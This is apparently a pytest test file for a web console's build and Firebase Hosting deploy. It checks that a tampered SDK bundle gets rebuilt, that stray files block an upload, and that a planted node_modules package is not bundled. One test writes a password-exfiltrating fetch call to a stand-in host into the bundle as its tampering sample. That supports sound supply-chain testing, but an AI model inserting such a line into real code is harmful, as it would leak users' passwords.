"""What Hosting is given: the SDK bundle as its pinned inputs make it, and the console's files alone (attack run 124).

The bundle is built by a stand-in for npm and esbuild (``npm ci`` puts an ``esbuild`` in ``node_modules/.bin`` that
writes what it was asked to bundle), so the script's decisions are tested without a registry."""

from __future__ import annotations

import json
import os
import shlex
import shutil
import stat
import subprocess
import sys
from pathlib import Path

import pytest

from infra import hosting_site
from infra.local.services import TOOLS_HOME

REPO = Path(__file__).resolve().parents[2]
BUILT = "bundled by the pinned esbuild\n"
FAKE_ESBUILD = f"""#!/bin/sh
for arg in "$@"; do case "$arg" in --outfile=*) printf '{BUILT.strip()}\\n' > "${{arg#--outfile=}}" ;; esac; done
"""
FAKE_NPM = f"""#!/bin/sh
echo run >> "$NPM_RUNS"
if [ -n "$INSTALLED" ]; then ln -s "$INSTALLED" node_modules; exit 0; fi  # the tree npm ci made for ./dev
mkdir -p node_modules/.bin
cat > node_modules/.bin/esbuild <<'ESBUILD'
{FAKE_ESBUILD}ESBUILD
chmod +x node_modules/.bin/esbuild
"""


@pytest.fixture
def checkout(tmp_path: Path) -> Path:
    """The console's build script and pinned inputs, in a folder of their own, with a stand-in npm on the PATH."""
    repo = tmp_path / "repo"
    shutil.copytree(REPO / "infra" / "console", repo / "infra" / "console")
    (repo / "infra" / "hosting").mkdir(parents=True)
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    (bin_dir / "npm").write_text(FAKE_NPM)
    (bin_dir / "npm").chmod(stat.S_IRWXU)
    return repo


def run_build(repo: Path, *args: str, installed: Path | None = None) -> int:
    """The script's exit status; how many times it ran npm is in ``npm-runs``. ``installed``: the node_modules npm
    ci puts in the tools' folder is that one (the pinned esbuild and SDK ./dev installed), not a stand-in."""
    tmp = repo.parent
    env = {
        **os.environ,
        "INSTALLED": str(installed or ""),
        "PATH": f"{tmp / 'bin'}:{os.environ['PATH']}",
        "LOCKWISE_TOOLS_HOME": str(tmp / "tools"),
        "NPM_RUNS": str(tmp / "npm-runs"),
    }
    script = repo / "infra" / "console" / "build.sh"
    done = subprocess.run(["bash", str(script), *args], env=env, capture_output=True, text=True, timeout=60)
    return done.returncode


def npm_runs(repo: Path) -> int:
    runs = repo.parent / "npm-runs"
    return len(runs.read_text().splitlines()) if runs.exists() else 0


def test_an_sdk_bundle_changed_after_its_build_is_built_again(checkout: Path) -> None:
    """Attack run 124: the bundle's stamp named the inputs it was made from, not the bytes made, and the bundle is
    git-ignored: a vendor/firebase.js edited or replaced after its build (a debugging build, a patched SDK reading the
    password box) was taken as current by ./dev and by the deploy, and uploaded to Hosting under any release."""
    bundle = checkout / "infra" / "hosting" / "vendor" / "firebase.js"
    assert run_build(checkout) == 0 and bundle.read_text() == BUILT and npm_runs(checkout) == 1
    assert run_build(checkout) == 0 and npm_runs(checkout) == 1  # current: nothing done
    bundle.write_text(BUILT + "fetch('https://elsewhere.example/?p=' + password.value)\n")
    assert run_build(checkout) == 0
    assert bundle.read_text() == BUILT and npm_runs(checkout) == 2
    bundle.unlink()
    (bundle.parent / "firebase.js.sha256").unlink()
    assert run_build(checkout) == 0 and bundle.read_text() == BUILT and npm_runs(checkout) == 3


def test_the_deploy_bundles_the_sdk_afresh_and_uploads_the_console_alone(checkout: Path) -> None:
    """The deploy's Hosting step makes the bundle again from the pinned versions whatever a stamp says (a stamp and a
    bundle rewritten together pass any check of one against the other), then checks the site holds the console's
    files alone, before firebase-tools uploads it with a message naming the release (Hosting's history named none)."""
    assert run_build(checkout) == 0 and npm_runs(checkout) == 1
    assert run_build(checkout, "--fresh") == 0 and npm_runs(checkout) == 2
    assert run_build(checkout, "--anything") == 2 and npm_runs(checkout) == 2
    args = ["firebase", "--project", "lockwise-prod", "--region", "europe-west1", "--release", "r7", "--dry-run"]
    planned = subprocess.run(
        [sys.executable, "-m", "infra.deploy", *args], cwd=REPO, capture_output=True, text=True, timeout=60, check=True
    )
    steps = [shlex.split(line) for line in planned.stdout.splitlines() if line.strip()]
    assert steps[0] == ["bash", str(REPO / "infra" / "console" / "build.sh"), "--fresh"]
    assert steps[1] == [sys.executable, "-m", "infra.hosting_site"]
    assert steps[-1][1] == "deploy"
    assert steps[-1][steps[-1].index("--message") + 1] == "LockWise r7"  # Hosting's history names the release


@pytest.mark.parametrize(
    "stray",
    [
        "vendor/firebase.js.orig",  # vendor/ is git-ignored: no release, diff or status names it
        "vendor/firebase.debug.js",
        "backup.tar.gz",
        "notes/customers.csv",
    ],
)
def test_a_file_that_is_not_the_consoles_stops_the_upload_by_name(tmp_path: Path, stray: str) -> None:
    """Attack run 124: firebase-tools uploads every file of infra/hosting its ignore rules leave in, so anything left
    there but hidden files, maps, stamps and logs was served from the site."""
    site = tmp_path / "site"
    for name in (*hosting_site.SERVED, "vendor/firebase.js.sha256", ".gitignore", "vendor/.app.js.swp"):
        (site / name).parent.mkdir(parents=True, exist_ok=True)
        (site / name).write_text("console\n")
    assert hosting_site.problems(site) == []
    assert hosting_site.main([str(site)]) == 0
    (site / stray).parent.mkdir(parents=True, exist_ok=True)
    (site / stray).write_text("not the console\n")
    assert hosting_site.problems(site) == [f"{stray} is not the console's"]
    assert hosting_site.main([str(site)]) == 1
    (site / stray).unlink()
    (site / "vendor" / "firebase.js").unlink()
    assert hosting_site.problems(site) == ["vendor/firebase.js is missing"]


#: firebase.json's hosting.ignore before attack run 128: hidden files left out, not what hidden folders hold
RULES_BEFORE_RUN_128 = ("**/.*", "**/node_modules/**", "**/*.map", "**/*.sha256", "**/*.log")


def _firebase_tools_lists(site: Path, rules: tuple[str, ...]) -> list[str]:
    """What the pinned firebase-tools uploads of ``site`` given ``rules`` (its own ``listFiles``)."""
    lister = TOOLS_HOME / "firebase-tools" / "node_modules" / "firebase-tools" / "lib" / "listFiles.js"
    # ./dev test installs both: a machine without them fails here, loudly, rather than skip the check
    assert lister.is_file() and shutil.which("node"), "firebase-tools (./dev setup) and node list what Hosting uploads"
    script = (
        "console.log(JSON.stringify(require(process.argv[1]).listFiles(process.argv[2], JSON.parse(process.argv[3]))))"
    )
    listed = subprocess.run(
        ["node", "-e", script, str(lister), str(site), json.dumps(rules)],
        capture_output=True,
        text=True,
        check=True,
        timeout=60,
    )
    return sorted(json.loads(listed.stdout))


def test_what_the_check_names_is_what_firebase_tools_would_upload(tmp_path: Path) -> None:
    """Attack run 128: firebase-tools leaves a file out when a rule matches its whole path, and ``**/.*`` matches a
    hidden folder, not what it holds: ``.idea/workspace.xml`` or ``vendor/.cache/firebase.js.orig`` was uploaded and
    served, while infra.hosting_site passed over every path with a hidden part (and named a source map or a
    ``node_modules`` that Hosting leaves out, refusing a deploy for them). Its list is firebase-tools' own, under the
    rules before that run and firebase.json's now, which leave out hidden folders whole."""
    site = tmp_path / "site"
    strays = (
        ".idea/workspace.xml",
        "vendor/.cache/firebase.js.orig",
        "a/.b/c/dump.sql",
        ".gitignore",
        "vendor/firebase.js.sha256",
        "app.js.map",
        "node_modules/esbuild/index.js",
        "npm-debug.log",
        "notes/customers.csv",
    )
    for name in (*hosting_site.SERVED, *strays):
        (site / name).parent.mkdir(parents=True, exist_ok=True)
        (site / name).write_text("written\n")
    firebase_json = tuple(json.loads((REPO / "firebase.json").read_text())["hosting"]["ignore"])
    uploads = set(_firebase_tools_lists(site, firebase_json)) - set(hosting_site.SERVED)
    assert uploads == {"notes/customers.csv"}
    assert hosting_site.problems(site) == ["notes/customers.csv is not the console's"]
    for rules in (RULES_BEFORE_RUN_128, firebase_json):
        named = {p.removesuffix(" is not the console's") for p in hosting_site.problems(site, rules)}
        assert named == set(_firebase_tools_lists(site, rules)) - set(hosting_site.SERVED), rules
    assert hosting_site.problems(site, ("[a-z]*.csv",))[0].startswith("firebase.json's hosting.ignore rule [a-z]*")


def test_the_checkouts_site_is_the_console_alone() -> None:
    """What the repository's site holds is the list (the SDK bundle as ./dev test's setup made it)."""
    tracked = subprocess.run(
        ["git", "-C", str(REPO), "ls-files", "infra/hosting"], capture_output=True, text=True, check=True
    ).stdout.split()
    shown = {name.removeprefix("infra/hosting/") for name in tracked if "/." not in f"/{name}"}
    assert shown == set(hosting_site.SERVED) - {"vendor/firebase.js"}


#: what infra/console/firebase-sdk.js takes from the SDK's auth and firestore
SDK_NAMES = {
    "auth": ("connectAuthEmulator", "createUserWithEmailAndPassword", "getAuth", "onAuthStateChanged")
    + ("signInWithEmailAndPassword", "signOut"),
    "firestore": ("collection", "connectFirestoreEmulator", "doc", "getFirestore", "limit", "onSnapshot", "orderBy")
    + ("query", "where"),
}
PLANTED = """export const initializeApp = () => "a firebase found above the checkout's console folder";
export const getApp = initializeApp;
"""


def test_the_sdk_bundled_is_the_one_npm_ci_installed_whatever_node_modules_the_checkout_holds(checkout: Path) -> None:
    """Attack run 124: esbuild bundled infra/console/firebase-sdk.js where it lies, so it looked for the SDK in each
    node_modules above it first (the checkout's root: git-ignored, left by an `npm install` run there) and in the
    NODE_PATH of the pinned install last: a firebase found there was bundled and uploaded, the release clean. Run with
    the pinned esbuild and SDK ./dev installed (./dev test installs them: a machine without fails here, loudly)."""
    installed = TOOLS_HOME / "console-node" / "node_modules"
    assert (installed / ".bin" / "esbuild").is_file(), "the console's esbuild and SDK (./dev setup)"
    planted = checkout / "node_modules" / "firebase"
    planted.mkdir(parents=True)
    exports = {f"./{part}": f"./{part}.js" for part in ("app", "auth", "firestore")}
    (planted / "package.json").write_text(json.dumps({"name": "firebase", "version": "0.0.0", "exports": exports}))
    (planted / "app.js").write_text(PLANTED)
    for part, names in SDK_NAMES.items():
        (planted / f"{part}.js").write_text("".join(f"export const {name} = () => 0;\n" for name in names))
    assert run_build(checkout, installed=installed) == 0
    bundle = (checkout / "infra" / "hosting" / "vendor" / "firebase.js").read_text()
    assert "found above the checkout" not in bundle
    assert len(bundle) > 100_000  # the SDK itself
